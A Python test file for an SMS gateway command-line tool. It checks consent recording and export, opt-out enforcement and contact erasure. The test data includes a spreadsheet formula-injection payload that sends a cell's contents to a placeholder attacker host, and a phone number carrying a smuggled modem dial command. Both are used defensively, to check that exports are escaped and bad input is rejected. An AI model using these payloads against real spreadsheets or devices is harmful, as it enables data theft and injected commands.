"""`smsgw consent` and `smsgw contact erase` as a manager runs them, as real processes."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

from tests.gateway.test_cli_gateway import smsgw

TO = "+12015550123"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def box(data_dir: Path) -> list[str]:
    target = data_dir / "box"
    assert smsgw("init", "--data-dir", str(target)).returncode == 0
    return ["--data-dir", str(target)]


def test_it_records_and_exports_the_evidence_safely(data_dir: Path) -> None:
    where = box(data_dir)
    refused = smsgw(*where, "send", "--to", TO, "--text", "Your order is ready")
    assert refused.returncode != 0 and "no_transactional_consent" in refused.stderr
    sent = smsgw(
        *where, "send", "--to", TO, "--text", "Your order is ready", "--consent", "paper",
        "--evidence", HOSTILE,
    )  # fmt: skip
    assert sent.returncode == 0, sent.stderr
    recorded = smsgw(
        *where, "consent", "record", "--contact", TO, "--purpose", "marketing",
        "--action", "opted_in", "--source", "web_form", "--evidence", "-1+1", "--json",
    )  # fmt: skip
    assert recorded.returncode == 0, recorded.stderr
    exported = smsgw(*where, "consent", "export", "--contact", TO)
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [(r["purpose"], r["source"]) for r in rows] == [
        ("transactional", "paper"),
        ("marketing", "web_form"),
    ]
    assert rows[0]["evidence"] == "'" + HOSTILE and rows[1]["evidence"] == "'-1+1"
    assert rows[0]["number"] == "'" + TO  # a leading + is a formula to a spreadsheet too
    as_json = smsgw(*where, "consent", "export", "--format", "json")
    (history,) = [json.loads(line) for line in as_json.stdout.splitlines()]
    assert history["events"][0]["evidence"] == HOSTILE  # JSON keeps the text as it was
    output = data_dir / "evidence.csv"
    assert smsgw(*where, "consent", "export", "--output", str(output)).returncode == 0
    assert stat.S_IMODE(output.stat().st_mode) == 0o600


def test_an_agent_style_resubscribe_is_refused_from_the_cli_too(data_dir: Path) -> None:
    where = box(data_dir)
    smsgw(*where, "send", "--to", TO, "--text", "Hi", "--consent", "verbal")
    out = smsgw(
        *where, "consent", "record", "--contact", TO, "--purpose", "all",
        "--action", "opted_out", "--source", "verbal",
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    back = smsgw(
        *where, "consent", "record", "--contact", TO, "--purpose", "transactional",
        "--action", "opted_in", "--source", "verbal",
    )  # fmt: skip
    assert back.returncode != 0 and "consent_change_forbidden" in back.stderr
    again = smsgw(*where, "send", "--to", TO, "--text", "Hi again")
    assert again.returncode != 0 and "recipient_opted_out" in again.stderr


def test_erasure_leaves_the_number_known_and_never_texted(data_dir: Path) -> None:
    where = box(data_dir)
    smsgw(*where, "send", "--to", TO, "--text", "Secret lab result", "--consent", "paper")
    erased = smsgw(*where, "contact", "erase", TO, "--yes")
    assert erased.returncode == 0, erased.stderr
    assert "1 waiting message(s) will not be sent" in erased.stdout
    refused = smsgw(*where, "send", "--to", TO, "--text", "Hello", "--consent", "paper")
    assert refused.returncode != 0 and "recipient_erased" in refused.stderr
    (history,) = [
        json.loads(line)
        for line in smsgw(*where, "consent", "export", "--format", "json").stdout.splitlines()
    ]
    assert history["contact"]["number"] == "(erased)"
    assert [(e["source"], e["evidence"]) for e in history["events"]] == [("paper", None)]
    listed = smsgw(*where, "messages", "--json").stdout
    assert "Secret lab result" not in listed and TO not in listed
    database = (data_dir / "box" / "smsgw.db").read_bytes()
    assert b"Secret lab result" not in database


def test_bad_input_gets_a_clear_error(data_dir: Path) -> None:
    where = box(data_dir)
    for args in (
        ["consent", "export", "--contact", "not a number"],
        ["consent", "export", "--contact", TO],  # unknown contact
        ["consent", "record", "--contact", TO, "--purpose", "marketing", "--action",
         "opted_in", "--source", "paper"],  # unknown contact
        ["contact", "erase", "+1201555;ATD112", "--yes"],
        ["send", "--to", TO, "--text", "x", "--evidence", "no --consent"],
    ):  # fmt: skip
        result = smsgw(*where, *args)
        assert result.returncode != 0, args
        assert "Traceback" not in result.stderr, args
